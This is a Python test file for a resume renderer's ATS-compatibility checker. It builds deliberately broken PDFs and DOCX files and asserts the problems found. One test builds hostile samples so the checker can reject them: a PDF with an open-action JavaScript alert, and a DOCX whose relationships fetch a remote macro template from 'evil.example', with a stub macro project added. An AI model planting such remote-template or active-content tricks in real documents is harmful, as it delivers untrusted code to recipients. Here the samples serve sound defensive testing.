"""`check` catches what an ATS would lose, naming what and where, on files made to be bad."""

from __future__ import annotations

import io

import docx
from reportlab.pdfgen.canvas import Canvas
from typer.testing import CliRunner

from renderer.cli.app import app
from renderer.compose.resume import compose
from renderer.formats.plaintext import markdown_to_text
from renderer.inputs import load_profile
from renderer.theme.model import load_theme
from tests.conftest import ROOT, check_bytes, document, render_bytes, rendered, write_profile

runner = CliRunner()


def _pdf(draw) -> bytes:
    buffer = io.BytesIO()
    canvas = Canvas(buffer, invariant=1)
    canvas.setTitle("t")
    canvas.setSubject("s")
    canvas.setKeywords("k")
    draw(canvas)
    canvas.save()
    return buffer.getvalue()


def test_every_good_file_passes(person, theme, tmp_path):
    for fmt in ("pdf", "docx", "txt", "md"):
        report = check_bytes(
            tmp_path / f"x.{fmt}", document(person, theme), rendered(person, theme, fmt)
        )
        assert report.ok, (fmt, report.problems)


def test_standard14_font_that_cannot_encode_a_character(tmp_path):
    path = write_profile(tmp_path, "name: Paweł Wróbel\nhighlights: ['Moved to Łódź']\n")
    chosen = load_theme("classic")
    doc = compose(load_profile(path).profile, chosen)

    def draw(canvas):
        canvas.setFont("Helvetica", 10)
        for number, line in enumerate(doc.lines()):
            canvas.drawString(20, 800 - 14 * number, ("• " if number > 1 else "") + line)

    report = check_bytes(tmp_path / "x.pdf", doc, _pdf(draw))
    assert not report.ok
    assert any("font Helvetica is not embedded" in p for p in report.problems)
    assert any("line 1 (name) not found in order: 'Paweł Wróbel'" in p for p in report.problems)
    assert any("highlights[0]) not found in order: 'Moved to Łódź'" in p for p in report.problems)
    assert any("DEL characters" in p for p in report.problems)  # Helvetica's bullet


def test_characters_drawn_one_by_one_out_of_order(tmp_path):
    doc = document("ao-wang", "compact")

    def draw(canvas):
        y = 800
        for line in doc.lines():
            canvas.setFont("Helvetica", 7)
            x = 20
            positions = []
            for char in line[:120]:
                positions.append((x, char))
                x += canvas.stringWidth(char, "Helvetica", 7)
            for x, char in reversed(positions):  # drawn right to left
                canvas.drawString(x, y, char)
            y -= 9

    report = check_bytes(tmp_path / "x.pdf", doc, _pdf(draw))
    assert not report.ok
    assert any("line 1 (name) not found in order: 'Ao Wang'" in p for p in report.problems)


def test_words_glued_together(tmp_path):
    doc = document("rui-shao", "classic")

    def draw(canvas):
        y = 800
        canvas.setFont("Helvetica", 6)
        for line in doc.lines():
            canvas.drawString(
                20, y, line.replace(" ", "").encode("latin-1", "replace").decode("latin-1")
            )
            y -= 8

    report = check_bytes(tmp_path / "x.pdf", doc, _pdf(draw))
    assert any(
        "words glued together: expected 'Rui Shao', read 'RuiShao'" in p for p in report.problems
    ), report.problems


def test_docx_with_the_contact_block_in_the_header(tmp_path):
    doc = document("ao-wang", "classic")
    word = docx.Document(io.BytesIO(rendered("ao-wang", "classic", "docx")))
    header = word.sections[0].header
    for paragraph in word.paragraphs[:3]:  # name, headline, location: into the page header
        header.add_paragraph(paragraph.text)
        paragraph._p.getparent().remove(paragraph._p)
    buffer = io.BytesIO()
    word.save(buffer)
    report = check_bytes(tmp_path / "x.docx", doc, buffer.getvalue())
    assert not report.ok
    assert any("text in a page header" in p and "Ao Wang" in p for p in report.problems)
    assert any("line 1 (name) not found" in p for p in report.problems)
    assert any("contact detail 'Shanghai and Singapore'" in p for p in report.problems)


def test_docx_with_a_table(tmp_path):
    doc = document("rui-shao", "classic")
    word = docx.Document(io.BytesIO(rendered("rui-shao", "classic", "docx")))
    word.add_table(rows=1, cols=2)
    buffer = io.BytesIO()
    word.save(buffer)
    report = check_bytes(tmp_path / "x.docx", doc, buffer.getvalue())
    assert any("holds a table" in p for p in report.problems)


def test_a_resume_of_another_person(tmp_path):
    report = check_bytes(
        tmp_path / "x.pdf",
        document("ao-wang", "modern"),
        rendered("kaiyang", "modern", "pdf"),
    )
    assert not report.ok
    assert "another profile" in report.problems[0]  # said once, before the details
    assert report.problems[1].startswith("line 1 (name) not found in order: 'Ao Wang'")
    assert report.lines_found < report.lines_total / 2


def test_a_changed_character_is_found_and_located(tmp_path):
    doc = document("rui-shao", "classic")
    text = rendered("rui-shao", "classic", "txt").decode().replace("30min → 5min", "30min -> 5min")
    report = check_bytes(tmp_path / "x.txt", doc, text.encode())
    assert not report.ok
    (problem,) = [p for p in report.problems if "not found" in p]
    assert "experience[0].highlights[0]" in problem
    assert "then the file has '-> 5min" in problem


def test_missing_metadata_and_no_text(tmp_path):
    empty = _pdf(lambda canvas: None)
    report = check_bytes(tmp_path / "x.pdf", None, empty)
    assert "no text could be read from the file" in report.problems
    report = check_bytes(
        tmp_path / "x.pdf", document("rui-shao", "classic"), _pdf(lambda c: c.setTitle(""))
    )
    assert "PDF metadata Title is empty" in report.problems


def test_markdown_reads_back_as_its_reader_sees_it():
    assert markdown_to_text(r"- **Cost \& x** \*lit\* [repo](<https://e.com/a>)") == (
        "• Cost & x *lit* repo (https://e.com/a)"
    )
    assert markdown_to_text("[github.com/a](<https://github.com/a>)") == "github.com/a"


def test_files_that_are_not_what_they_say(tmp_path):
    doc = document("rui-shao", "classic")
    for name, data in (
        ("x.pdf", b"%PDF-1.4 garbage"),
        ("x.docx", b"PK garbage"),
        ("x.txt", b"caf\xe9"),
        ("x.pdf", b""),
    ):
        report = check_bytes(tmp_path / name, doc, data)
        assert not report.ok
        assert any(p.startswith(("cannot be read as", "is not UTF-8")) for p in report.problems)


def test_check_takes_the_theme_from_the_file_name(tmp_path):
    """`resume check FILE --profile P` on a file render named: no --theme needed; a file
    named otherwise is compared in the default theme, and a failure says so."""
    import shutil

    from typer.testing import CliRunner

    from renderer.cli import app

    runner = CliRunner()
    profile = str(ROOT / "profiles" / "rui-shao.yaml")
    out = tmp_path / "out"
    rendered = runner.invoke(
        app, ["render", profile, "-t", "all", "-f", "pdf", "-o", str(out), "-q"]
    )
    assert rendered.exit_code == 0
    pdfs = sorted(str(p) for p in (out / "rui-shao").glob("*.pdf"))
    checked = runner.invoke(app, ["check", *pdfs, "--profile", profile])
    assert checked.exit_code == 0 and checked.output.count(": ok (") == len(pdfs)
    renamed = tmp_path / "mine.pdf"
    shutil.copy(out / "rui-shao" / "rui-shao-modern.pdf", renamed)
    failed = runner.invoke(app, ["check", str(renamed), "--profile", profile])
    assert failed.exit_code == 1 and "theme 'classic' (the default); give --theme" in failed.output
    fixed = runner.invoke(app, ["check", str(renamed), "--profile", profile, "-t", "modern"])
    assert fixed.exit_code == 0


def test_check_rejects_active_content(tmp_path):
    """A PDF with JavaScript, a DOCX with macros or a template fetched from elsewhere: files a
    mail scanner or an ATS upload refuses, whatever their text."""
    import io
    import zipfile

    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript

    profile = ROOT / "profiles" / "rui-shao.yaml"
    assert (
        runner.invoke(
            app, ["render", str(profile), "-f", "pdf,docx", "-o", str(tmp_path)]
        ).exit_code
        == 0
    )
    pdf, docx_file = next(tmp_path.rglob("*.pdf")), next(tmp_path.rglob("*.docx"))
    clean = runner.invoke(app, ["check", str(pdf), str(docx_file), "--profile", str(profile)])
    assert clean.exit_code == 0 and "scanners reject" not in clean.output, clean.output

    writer = PdfWriter(clone_from=PdfReader(pdf))
    writer.add_open_action(JavaScript("app.alert('hello');"))
    with (tmp_path / "js.pdf").open("wb") as out:
        writer.write(out)
    result = runner.invoke(app, ["check", str(tmp_path / "js.pdf"), "--profile", str(profile)])
    assert result.exit_code == 1 and "holds JavaScript" in result.output

    buffer = io.BytesIO()
    with zipfile.ZipFile(docx_file) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/attachedTemplate" '
                    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
                )
            target.writestr(item, data)
        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    (tmp_path / "bad.docx").write_bytes(buffer.getvalue())
    result = runner.invoke(app, ["check", str(tmp_path / "bad.docx"), "--profile", str(profile)])
    assert result.exit_code == 1
    assert "holds macros" in result.output and "attachedTemplate" in result.output


def test_links_with_other_characters_go_where_they_say(tmp_path):
    """A PDF's /URI is ASCII: an address with Japanese or German letters in it (or a
    domain) is written percent-encoded (IDNA for a host), and check reads every link's target
    back; a link written as it was typed (UTF-16, as reportlab wrote it) is a problem."""
    import pypdf

    from renderer.ats.check import Report, _check_links
    from renderer.profile.uri import as_uri

    path = tmp_path / "p.yaml"
    path.write_text(
        "name: Ann Lee\nemail: ann@exämple.com\nlinks:\n"
        "  - {url: 'https://ja.wikipedia.org/wiki/日本語'}\n"
        "  - {url: 'https://münchen.example/Köln?q=ä#ü'}\n",
        encoding="utf-8",
    )
    theme = load_theme("classic")
    document = compose(load_profile(path).profile, theme)
    data = render_bytes("pdf", document, theme)
    report = check_bytes(tmp_path / "p.pdf", document, data)
    assert report.ok, report.problems
    uris = [
        str(a.get_object()["/A"]["/URI"])
        for a in pypdf.PdfReader(io.BytesIO(data)).pages[0]["/Annots"]
    ]
    assert "https://ja.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E" in uris
    assert "https://xn--mnchen-3ya.example/K%C3%B6ln?q=%C3%A4#%C3%BC" in uris
    assert "mailto:ann@ex%C3%A4mple.com" in uris and all(uri.isascii() for uri in uris)
    assert as_uri("https://example.com/a%20b") == "https://example.com/a%20b"  # left alone
    broken = Report("p.pdf")
    _check_links(("https://ja.wikipedia.org/wiki/日本語",), document, broken)
    assert any("not written as a URI" in p for p in broken.problems)
    assert any("is lost" in p for p in broken.problems)
